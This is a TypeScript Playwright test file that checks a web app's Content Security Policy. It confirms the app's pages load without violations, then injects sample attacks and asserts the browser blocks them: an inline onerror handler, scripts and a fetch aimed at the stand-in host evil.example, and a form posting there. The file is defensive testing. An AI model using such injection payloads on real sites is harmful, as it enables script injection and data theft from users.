import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Role } from '@/lib/members/roles'
import { DOORS } from '@/tests/api/authorisation-table'
import { launchBrowser, LAPTOP, newDevice, open, signInOn } from '@/tests/setup/browser'
import { seedMembers, startServer, type SeededMember, type TestServer } from '@/tests/setup/server'

const MINUTE = 60_000

let server: TestServer
let browser: Browser
let members: Record<Role, SeededMember>
let page: Page
let errors: string[]
let tree: { id: string; tag: string }

beforeAll(async () => {
  server = await startServer()
  members = await seedMembers()
  const factories = await import('@/tests/factories/shell-room')
  const { logDips } = await import('@/lib/commands/log-dips')
  const { newId } = await import('@/lib/core/ids')
  const foundry = await factories.buildFoundry()
  tree = await factories.buildTree(foundry, { since: Date.now() - 3 * 24 * 60 * MINUTE })
  await factories.buildAir(foundry.sensorId, Date.now() - 600 * MINUTE, Date.now())
  const run = {
    operationId: newId(),
    bathId: foundry.faceBathId,
    stucco: 'fine',
    way: 'dip',
    drainSeconds: 60,
    dippedAt: Date.now() - 300 * MINUTE,
    trees: [{ treeId: tree.id, coatNumber: 1, placeId: foundry.placeId }],
  } as const
  await logDips({ ...run, trees: [...run.trees] }, { member: members.owner, clock: { now: () => Date.now() } })
  browser = await launchBrowser()
  const device = await newDevice(browser, server.baseUrl, { size: LAPTOP, hasTouch: false })
  ;({ page, errors } = device)
  // The browser tells of each thing that it did not load, run or apply.
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      // oxlint-disable-next-line no-console -- in the browser, where the device collects it
      console.error(`Refused by the policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`)
    })
  })
})
afterAll(async () => {
  await browser.close()
  await server.stop()
})

const violations = () => errors.filter((text) => /policy|refused to|nonce/i.test(text))

/** Opens a page on a clean slate, and gives what loads late a moment. */
async function visit(path: string): Promise<void> {
  errors.length = 0
  await open(page, path)
  await page.waitForTimeout(300)
}

describe('the content policy lets a page do its work and refuses nothing of it:', () => {
  it('the sign-in', async () => {
    await visit('/sign-in')
    await signInOn(page, members.owner)
    expect(violations()).toEqual([])
  })

  it('the floor, with its dip sheet', async () => {
    await visit('/floor')
    await page.locator(`[data-tree-row="${tree.id}"]`).first().click()
    await page.getByRole('dialog').waitFor()
    await page.waitForTimeout(300)
    expect(violations()).toEqual([])
  })

  it('a tree, with its charts', async () => {
    await visit(`/trees/${tree.tag}`)
    await page.locator('svg.recharts-surface').first().waitFor()
    expect(await page.locator('svg.recharts-surface path').count()).toBeGreaterThan(0)
    expect(violations()).toEqual([])
  })

  const pages = DOORS.filter(({ method }) => method === 'PAGE').map(({ route, example }) => example ?? route)
  it.each(pages.filter((path) => !path.includes('[')))('%s', async (path) => {
    await visit(path.replace('KW-1', tree.tag))
    expect(violations()).toEqual([])
  })

  it('styles arrive: a key has its ground', async () => {
    await visit('/trees')
    const ground = await page
      .locator('.key')
      .first()
      .evaluate((key) => getComputedStyle(key).borderTopStyle)
    expect(ground).not.toBe('none')
  })

  it('a page that is not there, whose keys work', async () => {
    await visit('/nowhere')
    await page.getByText('Nothing hangs here').waitFor()
    await page.getByRole('link', { name: 'All trees' }).click()
    await page.waitForURL('**/trees')
    expect(violations()).toEqual([])
  })

  it('a page that fails, whose key tries again', async () => {
    const { database } = await import('@/models')
    await database.query('ALTER TABLE holds RENAME TO holds_away')
    try {
      await page.goto('/trees')
      await page.getByText('This page could not be shown').waitFor()
    } finally {
      await database.query('ALTER TABLE holds_away RENAME TO holds')
    }
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByText(tree.tag).first().waitFor()
    expect(violations()).toEqual([])
  })

  it('a frame that fails as a whole', async () => {
    const { database } = await import('@/models')
    await database.query('ALTER TABLE sessions RENAME TO sessions_away')
    try {
      await page.goto('/trees')
      await page.getByRole('heading').first().waitFor()
    } finally {
      await database.query('ALTER TABLE sessions_away RENAME TO sessions')
    }
    expect(violations()).toEqual([])
  })
})

describe('the content policy refuses', () => {
  it.each([
    ['a script without the nonce', () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">')],
    [
      'a script of another site',
      () => {
        const script = document.createElement('script')
        script.src = 'http://evil.example/x.js'
        // As markup brings it in; a script of our own may add others.
        document.body.insertAdjacentHTML('beforeend', script.outerHTML)
        document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>')
      },
    ],
    ['a request to another site', () => void fetch('http://evil.example/x').catch(() => {})],
    [
      'a form that leads elsewhere',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<form id="away" action="http://evil.example/" method="post"></form>')
        document.querySelector<HTMLFormElement>('#away')?.submit()
      },
    ],
  ])('%s', async (_name, attack) => {
    await visit('/trees')
    errors.length = 0
    await page.evaluate(attack)
    await expect.poll(() => violations().length).toBeGreaterThan(0)
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
    expect(new URL(page.url()).origin).toBe(server.baseUrl)
  })
})
